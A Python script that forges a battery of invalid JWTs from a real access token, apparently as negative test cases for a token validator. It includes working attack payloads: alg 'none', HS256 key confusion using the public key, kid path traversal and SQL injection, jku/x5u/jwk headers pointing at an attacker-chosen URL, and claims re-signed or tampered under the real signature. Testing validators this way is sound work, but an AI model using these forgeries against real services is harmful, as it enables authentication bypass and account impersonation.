"""Makes tokens that must not count, out of a real one: with the claims of that one, as PyJWT writes them. Prints them as JSON."""
import base64
import json
import sys
import time
import urllib.request

import jwt
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

issuer, real, trap = sys.argv[1:4]
claims = jwt.decode(real, options={"verify_signature": False})
head = jwt.get_unverified_header(real)
with urllib.request.urlopen(f"{issuer}/.well-known/jwks.json") as answer:
    published = json.load(answer)["keys"][0]
public = jwt.PyJWK(published).key
own = ec.generate_private_key(ec.SECP256R1())
own_jwk = json.loads(jwt.algorithms.ECAlgorithm.to_jwk(own.public_key()))


def part(value) -> str:
    text = value if isinstance(value, str) else json.dumps(value)
    return base64.urlsafe_b64encode(text.encode()).rstrip(b"=").decode()


def signed(headers: dict, payload: dict = claims, key=own, algorithm="ES256") -> str:
    return jwt.encode(payload, key, algorithm=algorithm, headers=headers)


def by_hmac(secret: bytes) -> str:
    # PyJWT itself refuses a public key as a secret.
    algorithm = jwt.algorithms.HMACAlgorithm(jwt.algorithms.HMACAlgorithm.SHA256)
    message = f'{part({**head, "alg": "HS256"})}.{part(claims)}'
    signature = algorithm.sign(message.encode(), secret)
    return f"{message}.{base64.urlsafe_b64encode(signature).rstrip(b'=').decode()}"


typ = {"typ": "at+jwt"}
now = int(time.time())
hostile = {
    "none": jwt.encode(claims, None, algorithm="none", headers={**typ, "kid": head["kid"]}),
    "HS256 with the public key as PEM": by_hmac(public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)),
    "HS256 with the public key as JWK": by_hmac(json.dumps(published).encode()),
    "HS256 with nothing": by_hmac(b""),
    "a key of somebody else under our kid": signed({**typ, "kid": head["kid"]}),
    "kid that is a path": signed({**typ, "kid": "../../../../dev/null"}),
    "kid that is SQL": signed({**typ, "kid": "' UNION SELECT 1 --"}),
    "kid that is an address": signed({**typ, "kid": f"{trap}/kid"}),
    "jku": signed({**typ, "kid": head["kid"], "jku": f"{trap}/jku"}),
    "x5u": signed({**typ, "kid": head["kid"], "x5u": f"{trap}/x5u"}),
    "jwk": signed({**typ, "kid": head["kid"], "jwk": own_jwk}),
    "crit": signed({**typ, "kid": head["kid"], "crit": ["exp"]}),
    "an ID token": signed({"typ": "JWT", "kid": head["kid"]}),
    "exp in the past": signed({**typ, "kid": head["kid"]}, {**claims, "exp": now - 1}),
    "nbf in the future": signed({**typ, "kid": head["kid"]}, {**claims, "nbf": now + 3600}),
    "another audience": signed({**typ, "kid": head["kid"]}, {**claims, "aud": "https://evil.example"}),
    "another issuer": signed({**typ, "kid": head["kid"]}, {**claims, "iss": "https://evil.example"}),
}
header, payload, signature = real.split(".")
twice = json.dumps(claims)[:-1] + ', "sub": "01890a5d-ac96-774b-bcce-b302099a8057"}'
hostile |= {
    "real signature, longer life": f'{header}.{part({**claims, "exp": now + 10**6})}.{signature}',
    "real signature, a claim twice": f"{header}.{part(twice)}.{signature}",
    "real signature, other header": f'{part({**head, "typ": "JWT"})}.{payload}.{signature}',
    "signature of zeros": f"{header}.{payload}.{'A' * 86}",
    "signature left out": f"{header}.{payload}.",
}
print(json.dumps(hostile))
